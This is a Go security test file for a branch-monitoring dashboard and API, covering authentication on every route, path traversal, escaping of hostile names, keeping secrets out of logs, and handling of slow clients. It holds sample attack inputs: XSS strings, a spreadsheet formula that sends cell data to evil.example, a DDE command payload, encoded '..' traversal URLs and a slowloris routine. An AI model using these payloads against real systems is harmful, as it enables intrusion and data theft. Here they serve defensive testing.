package app_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/labstack/echo/v4"
	"golang.org/x/crypto/bcrypt"

	"github.com/branchwatch/branchwatch/aggregator/internal/alert"
	"github.com/branchwatch/branchwatch/aggregator/internal/app"
	"github.com/branchwatch/branchwatch/aggregator/internal/dashboard"
	"github.com/branchwatch/branchwatch/aggregator/internal/fixture"
	"github.com/branchwatch/branchwatch/aggregator/internal/options"
	httpserver "github.com/branchwatch/branchwatch/aggregator/internal/server"
	"github.com/branchwatch/branchwatch/shared/config"
	"github.com/branchwatch/branchwatch/shared/store"
	"github.com/branchwatch/branchwatch/shared/testenv"
)

// secLogs is a log sink safe for concurrent writes.
type secLogs struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *secLogs) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *secLogs) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// secApp is the whole aggregator (dashboard included) serving on loopback
// over an S3 bucket, logging at debug level into Logs.
type secApp struct {
	URL  string
	App  *app.App
	Logs *secLogs
}

// startSecApp starts the aggregator with the S3 settings of srv; env adds
// or replaces settings.
func startSecApp(t *testing.T, srv *testenv.S3Server, env map[string]string, cfgs ...app.Config) *secApp {
	t.Helper()
	hash, err := bcrypt.GenerateFromPassword([]byte(password), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	vars := map[string]string{
		options.EnvListen: "127.0.0.1:0", options.EnvDataDir: t.TempDir(), options.EnvLogLevel: "debug",
		options.EnvUser: user, options.EnvPasswordBcrypt: string(hash), options.EnvToken: token,
	}
	maps.Copy(vars, srv.Env())
	maps.Copy(vars, env)
	o, err := options.Load(config.NewReader(config.MapLookup(vars)), options.Need{Bucket: true, Auth: true})
	if err != nil {
		t.Fatal(err)
	}
	logs := &secLogs{}
	var cfg app.Config
	if len(cfgs) > 0 {
		cfg = cfgs[0]
	}
	cfg.Logger = slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	cfg.Routes = []app.RouteBuilder{dashboard.Routes}
	cfg.Now = func() time.Time { return now }
	a, err := app.Build(o, cfg)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	ready, done := make(chan string, 1), make(chan error, 1)
	go func() { done <- a.Run(ctx, ready) }()
	var addr string
	select {
	case addr = <-ready:
	case err := <-done:
		cancel()
		t.Fatalf("aggregator stopped at start: %v", err)
	}
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("aggregator stopped with %v", err)
		}
	})
	if err := a.Service.Refresh(context.Background()); err != nil {
		t.Fatalf("first refresh: %v", err)
	}
	return &secApp{URL: "http://" + addr, App: a, Logs: logs}
}

// secSeed puts two branches' documents and dumps in the bucket; names
// gives each branch's display name.
func secSeed(t *testing.T, st store.Store, names map[string]string) map[string]string {
	t.Helper()
	dumps := map[string]string{}
	for _, id := range slices.Sorted(maps.Keys(names)) {
		for d := range 5 {
			doc := fixture.Doc(id, fixture.Date("2026-02-12", d), int64(d))
			doc.BranchName = names[id]
			fixture.PutDoc(t, st, doc)
			dumps[id] = fixture.PutBackup(t, st, id, time.Date(2026, 2, 12+d, 22, 0, 5, 0, fixture.IST), 6000+d)
		}
	}
	return dumps
}

// do sends a request with c and returns the response with its body read.
func do(t *testing.T, method, u string, c cred, body io.Reader) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(method, u, body)
	if err != nil {
		t.Fatal(err)
	}
	c(req)
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// TestEveryRouteNeedsCredentials asks the server itself for its routes
// (the dashboard's included), so that a route added later is covered:
// each answers 401 with a Basic challenge without credentials and with
// wrong ones, except /healthz and /readyz (which name no bucket).
func TestEveryRouteNeedsCredentials(t *testing.T) {
	srv := testenv.StartS3(t)
	dumps := secSeed(t, srv.Store(t), map[string]string{"andheri": "Andheri"})
	// Every wrong attempt must meet a 401 here, not the login limits'
	// 429 (TestLoginFlood tests those).
	a := startSecApp(t, srv, nil, app.Config{ServerOptions: func(o *httpserver.Options) { o.Login.Burst = 1000 }})
	params := strings.NewReplacer(":id", "andheri", ":name", strings.TrimPrefix(dumps["andheri"], "andheri/backups/"), "*", "app.css")
	wrong := []struct {
		name string
		cred cred
	}{
		{"none", noCred},
		{"wrong password", wrongPass},
		{"wrong user", wrongUser},
		{"wrong token", wrongToken},
		{"token as password", func(r *http.Request) { r.SetBasicAuth(user, token) }},
		{"empty basic", func(r *http.Request) { r.SetBasicAuth("", "") }},
		{"malformed header", func(r *http.Request) { r.Header.Set("Authorization", "Basic !!!") }},
		{"bearer with a prefix of the token", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+token[:len(token)-1]) }},
	}
	routes := a.App.Server.Routes()
	var checked int
	for _, rt := range routes {
		if rt.Method == echo.RouteNotFound || strings.HasPrefix(rt.Method, "echo_") {
			continue
		}
		path := params.Replace(rt.Path)
		t.Run(rt.Method+" "+rt.Path, func(t *testing.T) {
			if path == "/healthz" || path == "/readyz" {
				if resp, body := do(t, rt.Method, a.URL+path, noCred, nil); resp.StatusCode != http.StatusOK {
					t.Errorf("%s without credentials: %d", path, resp.StatusCode)
				} else if strings.Contains(string(body), srv.Bucket) {
					t.Errorf("%s names the bucket without credentials: %s", path, body)
				}
				return
			}
			checked++
			for _, w := range wrong {
				resp, body := do(t, rt.Method, a.URL+path, w.cred, nil)
				if resp.StatusCode != http.StatusUnauthorized {
					t.Errorf("%s credentials: status %d, want 401: %.200s", w.name, resp.StatusCode, body)
				}
				if !strings.HasPrefix(resp.Header.Get("WWW-Authenticate"), "Basic") {
					t.Errorf("%s credentials: no Basic challenge", w.name)
				}
				if strings.Contains(body, "Andheri") || strings.Contains(body, "branchwatch_") {
					t.Errorf("%s credentials: the 401 carries data: %.200s", w.name, body)
				}
			}
			if rt.Method == http.MethodGet {
				if resp, _ := do(t, rt.Method, a.URL+path, bearer, nil); resp.StatusCode == http.StatusUnauthorized {
					t.Errorf("good token refused")
				}
			}
		})
	}
	for _, want := range []string{"/", "/branches/:id", "/compare", "/alerts", "/api/v1/branches", "/export.csv", "/metrics"} {
		if !slices.ContainsFunc(routes, func(r *echo.Route) bool { return r.Path == want }) {
			t.Errorf("route %s is not registered: the enumeration misses part of the server", want)
		}
	}
	if checked < 10 {
		t.Errorf("only %d routes checked", checked)
	}
}

// TestBranchCannotReachOutside tries to reach another branch's data (or
// any other key) through a branch id or a backup name in a URL: "..",
// encoded slashes and dots, absolute keys, on the dashboard, the API, the
// CSV export and the backup download links (presigned by the real S3
// store). Every such request is refused, and a good download link points
// at exactly the branch's own key.
func TestBranchCannotReachOutside(t *testing.T) {
	srv := testenv.StartS3(t)
	st := srv.Store(t)
	dumps := secSeed(t, st, map[string]string{"andheri": "Andheri", "bandra": "Secret Bandra"})
	fixture.Put(t, st, "_private/notes.txt", []byte("private-notes-content"), nil)
	a := startSecApp(t, srv, nil)
	bandraDump := strings.TrimPrefix(dumps["bandra"], "bandra/backups/")
	andheriDump := strings.TrimPrefix(dumps["andheri"], "andheri/backups/")

	for _, p := range []string{
		"/branches/..", "/branches/..%2Fbandra", "/branches/andheri%2F..%2Fbandra", "/branches/%2e%2e",
		"/branches/%2e%2e%2fbandra", "/branches/andheri%2F%2E%2E%2Fbandra", "/branches/%2Fbandra", "/branches/bandra%00",
		"/branches/_private", "/branches/andheri%2Fbackups",
		"/api/v1/branches/..%2Fbandra", "/api/v1/branches/%2e%2e%2fbandra/metrics?from=2026-02-12&to=2026-02-16",
		"/api/v1/branches/andheri%2F..%2Fbandra/metrics?from=2026-02-12&to=2026-02-16",
		"/api/v1/metrics?from=2026-02-12&to=2026-02-16&branch=andheri%2F..%2Fbandra",
		"/api/v1/branches/andheri/backups/" + bandraDump + "/download",
		"/api/v1/branches/andheri/backups/..%2F..%2Fbandra%2Fbackups%2F" + bandraDump + "/download",
		"/api/v1/branches/andheri/backups/%2Fbandra%2Fbackups%2F" + bandraDump + "/download",
		"/api/v1/branches/andheri/backups/%2e%2e%2f%2e%2e%2f_private%2Fnotes.txt/download",
		"/api/v1/branches/andheri/backups/" + andheriDump + "%2F..%2F..%2F..%2Fbandra%2Fbackups%2F" + bandraDump + "/download",
		"/api/v1/branches/_private/backups/notes.txt/download",
		"/export.csv?from=2026-02-12&to=2026-02-16&branch=..%2Fbandra",
		"/export.csv?from=2026-02-12&to=2026-02-16&branch=andheri%2F..%2Fbandra",
		"/export.csv?from=2026-02-12&to=2026-02-16&branch=%2Fbandra",
	} {
		resp, body := do(t, http.MethodGet, a.URL+p, basic, nil)
		if resp.StatusCode != http.StatusNotFound && resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 404 or 400 (Location %q)", p, resp.StatusCode, resp.Header.Get("Location"))
		}
		if strings.Contains(body, "Secret Bandra") || strings.Contains(body, "private-notes-content") {
			t.Errorf("%s: another branch's data in the answer (status %d): %.300s", p, resp.StatusCode, body)
		}
	}

	// The good link redirects to a presigned URL of andheri's own key.
	resp, _ := do(t, http.MethodGet, a.URL+"/api/v1/branches/andheri/backups/"+andheriDump+"/download", basic, nil)
	if resp.StatusCode != http.StatusFound {
		t.Fatalf("good download link: status %d, want 302", resp.StatusCode)
	}
	loc, err := url.Parse(resp.Header.Get("Location"))
	if err != nil {
		t.Fatal(err)
	}
	if want := "/" + srv.Bucket + "/" + dumps["andheri"]; loc.Path != want {
		t.Errorf("download link path %q, want %q", loc.Path, want)
	}
	if strings.Contains(loc.String(), testenv.S3SecretKey) {
		t.Error("the download link carries the secret key")
	}
	// The dashboard's branch page links only that branch's dumps.
	_, page := do(t, http.MethodGet, a.URL+"/branches/andheri", basic, nil)
	if strings.Contains(page, "bandra_") || strings.Contains(page, "Secret Bandra") {
		t.Error("andheri's page shows bandra's data")
	}
}

// evilNames are branch names made to break out of HTML, attributes and
// spreadsheets.
var evilNames = map[string]string{
	"evil-script": `<script>alert("x")</script>`,
	"evil-img":    `"><img src=x onerror=alert(1)>`,
	"evil-attr":   `' onmouseover='alert(2)' x='`,
	"evil-svg":    `<svg/onload=alert(3)>`,
	"evil-csv":    `=HYPERLINK("http://evil.example/?"&A1,"open")`,
	"evil-at":     `@SUM(1+1)*cmd|' /C calc'!A0`,
}

// TestUntrustedNamesAreTextEverywhere gives branches hostile names and
// lets them go down, so that the names also reach the alert history and
// the problems list: every page shows them as text (no element or
// attribute made from them), and the CSV export neutralises the ones that
// a spreadsheet would run.
func TestUntrustedNamesAreTextEverywhere(t *testing.T) {
	srv := testenv.StartS3(t)
	st := srv.Store(t)
	for id, name := range evilNames {
		for d := range 3 {
			doc := fixture.Doc(id, fixture.Date("2026-02-09", d), int64(d)) // stale: down by now
			doc.BranchName = name
			fixture.PutDoc(t, st, doc)
		}
	}
	a := startSecApp(t, srv, nil)
	_, hist := a.App.Service.Alerts()
	if len(hist) == 0 {
		t.Fatal("no alert was raised: the alert pages would not show the names")
	}
	pages := []string{"/", "/alerts", "/compare", "/compare?from=2026-02-09&to=2026-02-11"}
	for id := range evilNames {
		pages = append(pages, "/branches/"+id)
	}
	for _, p := range pages {
		t.Run(p, func(t *testing.T) {
			resp, body := do(t, http.MethodGet, a.URL+p, basic, nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d", resp.StatusCode)
			}
			doc, err := goquery.NewDocumentFromReader(strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			if n := doc.Find("main script, main img, main svg[onload], [onerror], [onload], [onmouseover]").Length(); n != 0 {
				t.Errorf("%d elements or attributes made from a branch name", n)
			}
			for _, name := range evilNames {
				if strings.ContainsAny(name, "<>\"'") && strings.Contains(body, name) {
					t.Errorf("name %q appears unescaped", name)
				}
			}
			text := doc.Find("body").Text()
			shown := 0
			for _, name := range evilNames {
				if strings.Contains(text, name) {
					shown++
				}
			}
			if shown == 0 {
				t.Error("no hostile name is shown as text on this page: the check proves nothing")
			}
		})
	}

	_, body := do(t, http.MethodGet, a.URL+"/export.csv?from=2026-02-09&to=2026-02-11", basic, nil)
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export: %v", err)
	}
	col := slices.Index(recs[0], "branch_name")
	names := map[string]bool{}
	for _, r := range recs[1:] {
		names[r[col]] = true
		if strings.ContainsAny(r[col][:1], "=+-@\t\r") {
			t.Errorf("CSV cell %q starts like a formula", r[col])
		}
	}
	for _, n := range []string{evilNames["evil-csv"], evilNames["evil-at"]} {
		if !names["'"+n] {
			t.Errorf("CSV lacks the neutralised name '%s; names: %v", n, slices.Collect(maps.Keys(names)))
		}
	}
}

// TestSecretsStayOutOfTheAggregator runs the aggregator with an S3 secret
// key, a bcrypt hash, a bearer token and a webhook URL whose path is its
// secret, through good requests, wrong credentials, a failing bucket and
// an unreachable webhook: none of them appears in a log line (debug
// level), /metrics, the API or a page.
func TestSecretsStayOutOfTheAggregator(t *testing.T) {
	var failing atomic.Bool
	srv := testenv.StartS3(t, testenv.WithMiddleware(func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if failing.Load() {
				http.Error(w, `<Error><Code>AccessDenied</Code><Message>key revoked</Message></Error>`, http.StatusForbidden)
				return
			}
			next.ServeHTTP(w, r)
		})
	}))
	dumps := secSeed(t, srv.Store(t), map[string]string{"andheri": "Andheri"})
	fixture.PutDoc(t, srv.Store(t), fixture.Doc("stale", "2026-02-01", 1)) // down: an alert to deliver
	closed := httptest.NewServer(http.NotFoundHandler())
	const hookSecret = "T0000/B0000/hook-secret-path-Xy7"
	hook := closed.URL + "/services/" + hookSecret
	closed.Close() // the webhook is unreachable: delivery fails and is retried
	hash, _ := bcrypt.GenerateFromPassword([]byte(password), bcrypt.MinCost)
	attempts := make(chan alert.Record, 16)
	const smtpSecret, tgSecret = "smtp-Secret-Pw-9q", "tg-Secret-Tok-4k"
	a := startSecApp(t, srv, map[string]string{options.EnvWebhookURL: hook,
		options.EnvSMTPURL: "smtp://alerts:" + smtpSecret + "@" + strings.TrimPrefix(closed.URL, "http://"), options.EnvEmailFrom: "bw@example.com",
		options.EnvEmailTo: "owner@example.com", options.EnvTelegramToken: "123:" + tgSecret, options.EnvTelegramChatID: "42",
		options.EnvTelegramAPIURL: closed.URL}, app.Config{AlertOptions: func(o *alert.Options) {
		o.MinBackoff, o.MaxBackoff = time.Hour, time.Hour // one attempt is enough here
		o.OnAttempt = func(r alert.Record, _ string) {
			select {
			case attempts <- r:
			default:
			}
		}
	}})
	select {
	case r := <-attempts:
		failed := false
		for _, d := range r.Deliveries {
			failed = failed || d.LastError != ""
		}
		if !failed {
			t.Fatalf("delivery to a closed port did not fail: %+v", r)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("no alert delivery was attempted")
	}

	const guessed = "guessed-Pa55-word"
	do(t, http.MethodGet, a.URL+"/", func(r *http.Request) { r.SetBasicAuth(user, guessed) }, nil)
	do(t, http.MethodGet, a.URL+"/api/v1/branches", func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+guessed) }, nil)
	failing.Store(true)
	if err := a.App.Service.Refresh(context.Background()); err == nil {
		t.Fatal("a refresh against a refusing bucket succeeded")
	}
	var seen strings.Builder
	for _, p := range []string{"/", "/alerts", "/branches/andheri", "/api/v1/branches", "/api/v1/sync", "/api/v1/alerts",
		"/metrics", "/api/v1/branches/andheri/backups/" + strings.TrimPrefix(dumps["andheri"], "andheri/backups/") + "/download"} {
		resp, body := do(t, http.MethodGet, a.URL+p, bearer, nil)
		fmt.Fprintf(&seen, "%s %d %s\n%s\n", p, resp.StatusCode, resp.Header.Get("Location"), body)
	}
	if !strings.Contains(seen.String(), "key revoked") && !strings.Contains(seen.String(), "403") && !strings.Contains(seen.String(), "AccessDenied") {
		t.Error("the sync failure is shown nowhere: the check proves nothing")
	}
	if !strings.Contains(a.Logs.String(), `"level":"DEBUG"`) {
		t.Error("no debug log line was written: the check proves nothing")
	}
	for what, text := range map[string]string{"logs": a.Logs.String(), "answers": seen.String()} {
		for name, secret := range map[string]string{
			"S3 secret key": testenv.S3SecretKey, "dashboard password": password, "bcrypt hash": string(hash)[7:],
			"token": token, "guessed password": guessed, "webhook path": hookSecret, "escaped webhook path": url.PathEscape(hookSecret),
			"SMTP password": smtpSecret, "Telegram token": tgSecret,
		} {
			if strings.Contains(text, secret) {
				t.Errorf("the %s appears in the %s", name, what)
			}
		}
	}
}

// TestSlowClientsAreCutOff holds connections by sending the request
// headers one byte a second (slowloris), or the body after complete
// headers: the server closes them within its ReadHeaderTimeout and
// ReadTimeout. Oversized bodies get 413, oversized headers 431.
func TestSlowClientsAreCutOff(t *testing.T) {
	srv := testenv.StartS3(t)
	a := startSecApp(t, srv, nil)
	host := strings.TrimPrefix(a.URL, "http://")

	t.Run("slowloris", func(t *testing.T) {
		t.Parallel()
		held := dripToServer(t, host, "GET /healthz HTTP/1.1\r\n", "Host: "+host+"\r\nX-Slow: "+strings.Repeat("a", 100),
			httpserver.ReadHeaderTimeout)
		t.Logf("slow headers cut off after %s", held.Round(time.Millisecond))
	})
	t.Run("slow body", func(t *testing.T) {
		t.Parallel()
		held := dripToServer(t, host, "GET /healthz HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: 100000\r\n\r\n",
			strings.Repeat("b", 100), httpserver.ReadTimeout)
		t.Logf("slow body cut off after %s", held.Round(time.Millisecond))
	})
	t.Run("oversized body", func(t *testing.T) {
		t.Parallel()
		big := strings.NewReader(strings.Repeat("x", 1<<20))
		resp, _ := do(t, http.MethodPost, a.URL+"/api/v1/refresh", bearer, big)
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("1 MiB body: status %d, want 413", resp.StatusCode)
		}
		resp, _ = do(t, http.MethodPost, a.URL+"/refresh", noCred, strings.NewReader(strings.Repeat("x", 1<<20)))
		if resp.StatusCode != http.StatusRequestEntityTooLarge && resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("1 MiB body without credentials: status %d, want 413 or 401", resp.StatusCode)
		}
	})
	t.Run("oversized headers", func(t *testing.T) {
		t.Parallel()
		conn, err := net.Dial("tcp", host)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
		fmt.Fprintf(conn, "GET /healthz HTTP/1.1\r\nHost: %s\r\nX-Big: %s\r\n\r\n", host, strings.Repeat("b", 2*httpserver.MaxHeaderBytes))
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatalf("no answer to oversized headers: %v", err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("oversized headers: status %d, want 431", resp.StatusCode)
		}
	})
}

// dripToServer sends head at once, then drip one byte a second, and
// returns how long the server kept the connection open; it fails the test
// when that goes beyond timeout plus a few seconds.
func dripToServer(t *testing.T, host, head, drip string, timeout time.Duration) time.Duration {
	t.Helper()
	conn, err := net.Dial("tcp", host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	start := time.Now()
	closed := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, conn)
		close(closed)
	}()
	if _, err := conn.Write([]byte(head)); err != nil {
		t.Fatal(err)
	}
	ticker := time.NewTicker(time.Second)
	defer ticker.Stop()
	for i := 0; ; i++ {
		select {
		case <-closed:
			if held := time.Since(start); held <= timeout+3*time.Second {
				return held
			}
			t.Errorf("connection held %s, beyond the server's %s timeout", time.Since(start), timeout)
			return time.Since(start)
		case <-ticker.C:
		}
		if time.Since(start) > timeout+10*time.Second {
			t.Fatalf("a client sending one byte a second still connected after %s", time.Since(start).Round(time.Second))
		}
		_, _ = conn.Write([]byte{drip[i%len(drip)]}) // an error: the server closed it, the reader reports next
	}
}
